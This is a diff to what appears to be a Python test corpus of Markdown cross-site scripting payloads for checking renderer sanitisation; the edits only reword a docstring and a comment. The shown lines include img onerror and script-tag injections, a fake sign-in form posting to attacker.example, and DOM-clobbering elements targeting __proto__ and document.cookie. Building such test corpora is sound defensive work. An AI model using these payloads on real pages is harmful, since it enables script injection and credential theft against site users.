@@ -1,5 +1,5 @@
-"""Texts that try to run a script, load something or take the page over, each in Markdown: a model, a person or a file
-may say them.
+"""Markdown texts that try to run a script, load something or take over the page; a model, a person or a file may
+contain them.
 
 An attack that works calls `pwned()` or asks the host ATTACKER for something. Gathered by kind after OWASP's
 filter-evasion sheet and the advisories of Markdown renderers; none is known to work on a parser without raw HTML and
@@ -100,7 +100,7 @@ CORPUS = (
     "``` <img/src=x/onerror=pwned()>\nx\n```",
     "`<img src=x onerror=pwned()>`",
     "    <script>pwned()</script>",
-    # taking the page over without a script
+    # taking over the page without a script
     "<form action=//attacker.example><input name=key><button>Sign in</button></form>",
     "<a id=__proto__ name=querySelector href=x>x</a>",
     "<form id=document><input name=cookie></form>",
